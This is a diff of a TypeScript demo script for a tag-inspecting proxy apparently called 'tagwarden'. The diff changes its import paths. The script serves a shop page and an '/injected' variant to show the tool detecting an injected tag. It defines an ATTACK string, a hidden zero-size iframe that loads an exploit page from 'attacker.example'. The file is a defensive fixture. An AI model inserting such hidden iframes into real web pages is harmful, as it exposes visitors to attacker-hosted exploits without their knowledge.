@@ -7,14 +7,14 @@
  * It starts an origin on a free port serving examples/pages/shop.html (and, at /injected, the page
  * with an attack <iframe> inserted, as a compromised origin would), and the proxy in front of it on
  * PORT. Open http://127.0.0.1:3000/ and /injected through the proxy.
- * (In your code: `import { attachInspector } from 'tagwarden'`.)
+ * (In your code: `import { attachInspector } from 'tagwarden/embed'`.)
  */
 import { readFileSync } from 'node:fs'
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { gzipSync } from 'node:zlib'
 import httpProxy from 'http-proxy'
-import { attachInspector } from '../src/index.js'
+import { attachInspector } from '../src/entries/embed.js'
 
 const page = readFileSync(new URL('./pages/shop.html', import.meta.url), 'utf8')
 const ATTACK = '<iframe src="http://attacker.example/exploit" width="0" height="0"></iframe>'
